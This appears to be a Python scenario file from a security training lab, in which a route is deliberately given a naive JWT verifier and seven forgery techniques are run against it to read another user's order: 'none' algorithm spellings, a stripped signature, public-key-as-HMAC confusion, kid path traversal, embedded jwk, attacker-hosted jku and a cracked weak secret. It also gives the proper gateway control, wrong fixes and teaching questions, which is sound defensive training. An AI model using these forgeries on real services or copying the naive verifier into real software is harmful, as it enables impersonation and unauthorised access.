"""Seven ways to make a token that says "alice" without her password."""

from __future__ import annotations

import time
from collections.abc import Iterator

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt import PyJWK

from gateway.cli.tokens import claims_of
from scenarios.lab.forgery import Forger, by_secret, crack, stripped, unsigned
from scenarios.lab.model import Control, Outcome, Rewrite, Scenario, WrongFix
from scenarios.lab.target import Target

SECRET = "secret"  # noqa: S105  (the weakness itself)


def naive(document: dict[str, object], lab: Target) -> None:
    """Let the routes of orders believe as naive code does."""
    folder = lab.instance.state_dir / "lab" / "canary"
    (folder / "keys").mkdir(parents=True, exist_ok=True)
    (folder / "style.css").write_text("body { margin: 0 }")  # any file whose content a stranger knows
    routes = document["routes"]
    assert isinstance(routes, list)
    for route in routes:
        if route["name"] == "orders-read":
            believes = {"type": "LabNaiveJwt", "publicKey": public_key(lab), "secret": SECRET, "folder": str(folder)}
            route["filters"] = [believes if one["type"] == "JWT" else one for one in route["filters"]]


def public_key(lab: Target) -> str:
    """What everybody may fetch, as the PEM that people configure."""
    keys = lab.call("nobody", "GET", "/auth/jwks.json").json()["keys"]
    key = PyJWK(next(one for one in keys if one["kty"] == "RSA")).key
    pem: bytes = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    return pem.decode()


def forgeries(lab: Target, forger: Forger, where: str) -> Iterator[tuple[str, str]]:
    """Each way, and a token made by it. The forger has Bob's token, the public key, and time."""
    bobs = lab.token("bob")
    claims = {**claims_of(bobs), "sub": "alice", "exp": int(time.time()) + 600}
    for spelling in ("none", "None", "NONE", "nOnE"):
        yield f"alg {spelling}", unsigned(claims, spelling)
    yield "signature cut off", stripped(bobs, claims)
    yield "public key as HMAC secret", by_secret(claims, public_key(lab).encode())
    yield "kid as a path", by_secret(claims, b"body { margin: 0 }", kid="../style.css")
    yield "key in the token", forger.signed(claims, jwk=forger.jwk)
    yield "key at an address in the token", forger.signed(claims, jku=where)
    weak = by_secret({"sub": "bob"}, SECRET.encode())  # one that the forger was given some day
    yield "cracked secret", by_secret(claims, crack(weak) or b"")


def attack(lab: Target) -> Outcome:
    """Read Alice's order, with each forged token."""
    forger, through, tried = Forger(), [], 0
    with forger.key_server() as where:
        for way, token in forgeries(lab, forger, where):
            tried += 1
            answer = lab.call("nobody", "GET", "/orders/1001", headers=[("Authorization", f"Bearer {token}")])
            if answer.status == 200 and answer.json()["customer"] == "alice":
                through.append(way)
    got = f"alice's order, by {', '.join(through)}" if through else "nothing: every forgery was refused"
    return Outcome(bool(through), got, {"forgeries believed": f"{len(through)} of {tried}"})


def benign(lab: Target) -> bool:
    """Alice reads her order with her own token."""
    return lab.call("alice", "GET", "/orders/1001").status == 200


SCENARIO = Scenario(
    id="token-forgery",
    title="Tokens that nobody issued",
    story=(
        "The forger has a token of his own, the issuer's public key (everybody has it), and no password of Alice's. "
        "He writes her name into a token. All that is left is to make somebody believe it, and there are many ways."
    ),
    references=("OWASP API2:2023", "RFC 8725 section 2", "CWE-347"),
    claims=("C3", "C17"),
    difficulty=3,
    minutes=10,
    weaknesses=(Rewrite(naive, "route orders-read verifies tokens as naive code does (LabNaiveJwt)"),),
    control=Control(
        name="the key decides the algorithm, never the token",
        where="gateway",
        lines="- {type: JWT, provider: shop}",
        elsewhere=(
            "# Envoy\nenvoy.filters.http.jwt_authn:\n"
            "  providers: {shop: {issuer: …, audiences: [shop], remote_jwks: {…}}}\n"
            "  rules: [{match: {prefix: /orders}, requires: {provider_name: shop}}]\n"
            "# Istio\nkind: RequestAuthentication, and an AuthorizationPolicy that requires request.auth"
        ),
    ),
    attack=attack,
    benign=benign,
    hints=(
        "What in the token does the gateway believe before it has verified anything?",
        "gatehouse lab attack token-forgery lists the reason of each refusal: compare them.",
        "One line of the configuration makes all the difference: which filter verifies?",
    ),
    wrong_fixes=(
        WrongFix("refuse the spelling `none`", "`None`, `NONE` and `nOnE` are left, and six other ways."),
        WrongFix("a list of allowed algorithms alone", "With RS256 and HS256 in it the public key is still a secret."),
        WrongFix("a longer secret", "It stops cracking, and nothing else."),
    ),
    questions=(
        ("Why may the token name its key (kid), but not bring it?", "A name is looked up among keys we trust."),
        ("Who refused: gateway or service?", "The gateway, and where it does not, the service checks again."),
    ),
)
